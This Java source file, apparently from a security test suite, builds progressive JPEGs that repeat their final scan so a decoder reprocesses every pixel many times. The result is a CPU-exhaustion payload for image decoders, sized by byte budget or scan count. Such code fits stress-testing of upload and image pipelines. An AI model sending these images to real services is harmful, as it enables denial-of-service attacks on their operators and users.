package io.cloakroom.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;

/** Progressive JPEGs that repeat their last scan. A decoder visits all pixels for each scan. */
final class ProgressiveJpeg {

  private static final byte MARKER = (byte) 0xff;
  private static final byte START_OF_SCAN = (byte) 0xda;
  private static final int END_BYTES = 2;
  private static final float QUALITY = 0.75f;

  private ProgressiveJpeg() {}

  /** Returns an image of 1000 × 1000 pixels with as many scans as these bytes can hold. */
  static byte[] ofBytes(int bytes) {
    byte[] jpeg = plain(1000);
    int scanBytes = jpeg.length - END_BYTES - lastScan(jpeg);
    return repeat(jpeg, (bytes - jpeg.length) / scanBytes);
  }

  /** Returns an image of 1400 × 1400 pixels with this number of scans. */
  static byte[] ofScans(int scans) {
    byte[] jpeg = plain(1400);
    return repeat(jpeg, scans - scans(jpeg));
  }

  private static byte[] plain(int edge) {
    return Jpeg.encode(new BufferedImage(edge, edge, BufferedImage.TYPE_BYTE_GRAY), true, QUALITY);
  }

  private static byte[] repeat(byte[] jpeg, int times) {
    int end = jpeg.length - END_BYTES;
    int scan = lastScan(jpeg);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(jpeg, 0, end);
    for (int i = 0; i < times; i++) {
      out.write(jpeg, scan, end - scan);
    }
    out.write(jpeg, end, END_BYTES);
    return out.toByteArray();
  }

  /** Returns the number of scans. */
  static int scans(byte[] jpeg) {
    int scans = 0;
    for (int i = 0; i < jpeg.length - 1; i++) {
      scans += isScan(jpeg, i) ? 1 : 0;
    }
    return scans;
  }

  private static int lastScan(byte[] jpeg) {
    int at = jpeg.length - END_BYTES;
    while (!isScan(jpeg, at)) {
      at--;
    }
    return at;
  }

  private static boolean isScan(byte[] jpeg, int at) {
    return jpeg[at] == MARKER && jpeg[at + 1] == START_OF_SCAN;
  }
}
